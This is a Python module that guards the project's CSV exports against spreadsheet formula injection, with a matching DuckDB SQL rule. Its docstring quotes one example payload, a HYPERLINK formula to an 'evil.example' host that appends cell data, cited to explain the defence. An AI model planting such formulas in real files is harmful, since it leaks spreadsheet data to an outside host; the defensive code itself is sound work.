"""CSV cells a spreadsheet cannot take for a formula (CSV injection).

Every CSV the project writes (the team's files of `export`, `select`'s list, the
ratings export, the submission pack's upload CSV, declarations and upscale list)
passes its text cells through here. A text cell that begins with `=`, `+`, `-`, `@`,
a tab or a carriage return (OWASP's list of what Excel, LibreOffice and Google Sheets
may evaluate, e.g. a prompt `=HYPERLINK("http://evil.example/a")&A1`) is written with
a leading apostrophe, which every spreadsheet shows as text. Decided: a cell that is
a plain number (`-0.25`, `+3`, `1e-5`) is left as it is: a spreadsheet reads it as
that number, never as a formula, and the team's files keep their numbers; numeric
columns are written as numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# The same rule in DuckDB SQL, for CSV files DuckDB's COPY writes ({} is the column).
_SQL_NUMBER = "[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?"
_SQL_RULE = ("case when regexp_matches({c}, '^[=+\\-@\\t\\r]') "
             "and not regexp_full_match({c}, '" + _SQL_NUMBER + "') "
             "then '''' || {c} else {c} end")


def safe_cell(value):
    """`value` as a CSV cell no spreadsheet evaluates: text that starts like a formula
    gets a leading apostrophe; numbers, None and other text are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable]) -> list[list]:
    return [safe_row(row) for row in rows]


def safe_select(con, query: str) -> str:
    """`query` wrapped so that each of its text columns follows the rule above (for
    DuckDB's COPY ... (format csv)); column names and order are kept."""
    relation = con.execute(f"select * from ({query}) limit 0")
    columns = []
    for name, type_code, *_ in relation.description:
        quoted = '"' + name.replace('"', '""') + '"'
        if str(type_code).upper() in ("VARCHAR", "STRING"):
            columns.append(f"{_SQL_RULE.format(c=quoted)} as {quoted}")
        else:
            columns.append(quoted)
    return f"select {', '.join(columns)} from ({query})"
